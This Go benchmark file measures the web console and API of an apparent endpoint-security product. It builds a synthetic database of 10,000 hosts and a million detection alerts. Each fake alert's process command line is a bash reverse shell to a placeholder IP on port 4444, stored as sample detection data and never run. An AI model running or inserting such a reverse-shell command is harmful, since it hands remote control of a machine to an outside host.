package web

import (
	"context"
	"fmt"
	"math/rand/v2"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"testing"
	"time"

	"github.com/vigilsec/vigil/internal/alert"
	"github.com/vigilsec/vigil/internal/event"
	"github.com/vigilsec/vigil/internal/server/store"
	"github.com/vigilsec/vigil/internal/server/store/sqlite"
	"github.com/vigilsec/vigil/internal/severity"
)

// Benchmark fleet size; VIGIL_WEB_BENCH_HOSTS and VIGIL_WEB_BENCH_ALERTS
// override it (the database is rebuilt when they change).
func benchSize() (hosts, alerts int) {
	hosts, alerts = 10_000, 1_000_000
	if n, err := strconv.Atoi(os.Getenv("VIGIL_WEB_BENCH_HOSTS")); err == nil && n > 0 {
		hosts = n
	}
	if n, err := strconv.Atoi(os.Getenv("VIGIL_WEB_BENCH_ALERTS")); err == nil && n > 0 {
		alerts = n
	}
	return hosts, alerts
}

// benchStore opens the benchmark database, building it on first use in
// $VIGIL_WEB_BENCH_DIR or the system temp directory; later runs reuse it.
func benchStore(b *testing.B) store.Store {
	b.Helper()
	nh, na := benchSize()
	dir := os.Getenv("VIGIL_WEB_BENCH_DIR")
	if dir == "" {
		dir = filepath.Join(os.TempDir(), fmt.Sprintf("vigil-web-bench-%d-%d", nh, na))
	}
	must(b, os.MkdirAll(dir, 0o700))
	ctx := context.Background()
	done := filepath.Join(dir, "complete")
	if _, err := os.Stat(done); err != nil {
		os.Remove(filepath.Join(dir, sqlite.FileName))
		st, err := sqlite.OpenDir(ctx, dir)
		must(b, err)
		start := time.Now()
		buildBenchDB(b, st, nh, na)
		b.Logf("built %d hosts and %d alerts in %s (%s)", nh, na, time.Since(start).Round(time.Second), dir)
		must(b, st.Close())
		must(b, os.WriteFile(done, nil, 0o600))
	}
	st, err := sqlite.OpenDir(ctx, dir)
	must(b, err)
	b.Cleanup(func() { st.Close() })
	return st
}

var benchTactics = []string{"TA0002", "TA0003", "TA0004", "TA0005", "TA0006", "TA0008", "TA0011", "TA0040"}

func buildBenchDB(b *testing.B, st store.Store, nh, na int) {
	ctx := context.Background()
	rng := rand.New(rand.NewPCG(1, 2))
	now := time.Now().UTC()
	for i := range nh {
		h := store.Host{ID: fmt.Sprintf("h%05d", i), Hostname: fmt.Sprintf("web-%05d.prod.example", i), OS: "Debian GNU/Linux 12",
			AgentVersion: "1.0.0", SensorMode: "ebpf", EnrolledAt: now.Add(-30 * 24 * time.Hour), LastSeen: now.Add(-time.Duration(rng.IntN(600)) * time.Second)}
		must(b, st.UpsertHost(ctx, h))
		if i%10 == 0 {
			must(b, st.SetHostAttrs(ctx, h.ID, []string{"env:prod", fmt.Sprintf("team:%d", i%7)}, []string{fmt.Sprintf("g%d", i%20)}, i%3))
		}
	}
	rules := []string{"revshell", "cron-persist", "miner", "webshell", "ssh-bruteforce", "ld-preload", "suid-drop", "container-escape"}
	perHost := max(1, na/nh)
	batch := make([]alert.Alert, 0, perHost)
	id := 0
	for i := 0; id < na; i = (i + 1) % nh {
		batch = batch[:0]
		host := fmt.Sprintf("h%05d", i)
		for j := 0; j < perHost && id < na; j++ {
			r := rng.IntN(len(rules))
			batch = append(batch, alert.Alert{ID: fmt.Sprintf("%032x", id), Time: now.Add(-time.Duration(rng.Int64N(int64(30 * 24 * time.Hour)))), Host: host,
				Rule:     alert.Rule{ID: rules[r], Version: 1, Title: "Detected " + rules[r] + " activity"},
				Severity: severity.Level(1 + rng.IntN(5)), Attack: alert.Attack{Tactics: []string{benchTactics[r], benchTactics[rng.IntN(len(benchTactics))]}, Techniques: []string{"T1059.004"}},
				Process: &alert.Process{PID: rng.IntN(1 << 20), Exe: "/usr/bin/bash", Cmdline: "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", User: "www-data",
					Ancestors: []event.Ancestor{{PID: 812, Exe: "/usr/sbin/nginx"}, {PID: 1, Exe: "/sbin/init"}}},
				Evidence: map[string]any{"remote": "203.0.113.7:4444"}, Response: alert.Response{Action: "none", Result: "ok"}, Count: 1})
			id++
		}
		if _, err := st.IngestAlerts(ctx, host, batch); err != nil {
			b.Fatal(err)
		}
	}
}

// benchHandler serves the store with an API token for a read-only user.
func benchHandler(b *testing.B, st store.Store) http.Handler {
	ctx := context.Background()
	if _, err := st.GetUser(ctx, "bench"); err != nil {
		must(b, st.CreateUser(ctx, store.User{Username: "bench", PasswordHash: "x", Role: store.RoleReadOnly, CreatedAt: time.Now()}))
		must(b, st.CreateAPIToken(ctx, store.APIToken{Hash: hashToken("bench-token"), Username: "bench", Name: "bench", CreatedAt: time.Now()}))
	}
	h, err := New(Options{Store: st})
	must(b, err)
	return h
}

// runQueries times each request and reports p50 and p95 in ms.
func runQueries(b *testing.B, h http.Handler, urls []string) {
	var ds []time.Duration
	per := map[string][]time.Duration{}
	b.ResetTimer()
	for i := 0; b.Loop(); i++ {
		u := urls[i%len(urls)]
		req := httptest.NewRequest("GET", u, nil)
		req.Header.Set("Authorization", "Bearer bench-token")
		rec := httptest.NewRecorder()
		start := time.Now()
		h.ServeHTTP(rec, req)
		d := time.Since(start)
		ds = append(ds, d)
		per[u] = append(per[u], d)
		if rec.Code != 200 {
			b.Fatalf("GET %s: %d %s", u, rec.Code, rec.Body)
		}
	}
	pct := func(ds []time.Duration, p float64) float64 {
		slices.Sort(ds)
		return float64(ds[int(p*float64(len(ds)-1))].Microseconds()) / 1000
	}
	for _, u := range urls {
		if len(per[u]) > 0 {
			b.Logf("%-60s n=%d p50 %.1f ms p95 %.1f ms", clip(u), len(per[u]), pct(per[u], 0.5), pct(per[u], 0.95))
		}
	}
	b.ReportMetric(pct(ds, 0.50), "p50-ms")
	b.ReportMetric(pct(ds, 0.95), "p95-ms")
}

// BenchmarkConsoleLists measures the console's host and alert lists (and
// their API twins) over 10k hosts and 1M alerts in SQLite.
func BenchmarkConsoleLists(b *testing.B) {
	if testing.Short() {
		b.Skip("builds a 1M-alert database")
	}
	st := benchStore(b)
	h := benchHandler(b, st)
	// Cursors for deep pages, taken once.
	_, hostCur, err := st.ListHosts(context.Background(), store.HostFilter{Page: store.Page{Limit: 50, Offset: 5000}})
	must(b, err)
	_, alertCur, err := st.ListAlerts(context.Background(), store.AlertFilter{Page: store.Page{Limit: 50, Offset: 5000}})
	must(b, err)
	cases := []struct {
		name string
		urls []string
	}{
		{"host_list", []string{"/hosts", "/hosts?sort=last_seen", "/hosts?q=web-012", "/hosts?label=env:prod", "/hosts?group=g7", "/hosts?cursor=" + hostCur}},
		{"alert_list", []string{"/alerts", "/alerts?status=open", "/alerts?severity=critical", "/alerts?tactic=TA0011",
			"/alerts?host=h01234", "/alerts?q=miner", "/alerts?cursor=" + alertCur}},
		{"api_hosts", []string{"/api/v1/hosts?limit=100", "/api/v1/hosts?q=web-99"}},
		{"api_alerts", []string{"/api/v1/alerts?limit=100", "/api/v1/alerts?severity=high&tactic=TA0003&limit=100"}},
	}
	for _, c := range cases {
		b.Run(c.name, func(b *testing.B) { runQueries(b, h, c.urls) })
	}
}

// BenchmarkDashboard measures the dashboard and /metrics, which count
// every open alert and walk every host.
func BenchmarkDashboard(b *testing.B) {
	if testing.Short() {
		b.Skip("builds a 1M-alert database")
	}
	st := benchStore(b)
	h := benchHandler(b, st)
	b.Run("dashboard", func(b *testing.B) { runQueries(b, h, []string{"/"}) })
	b.Run("metrics", func(b *testing.B) { runQueries(b, h, []string{"/metrics"}) })
}
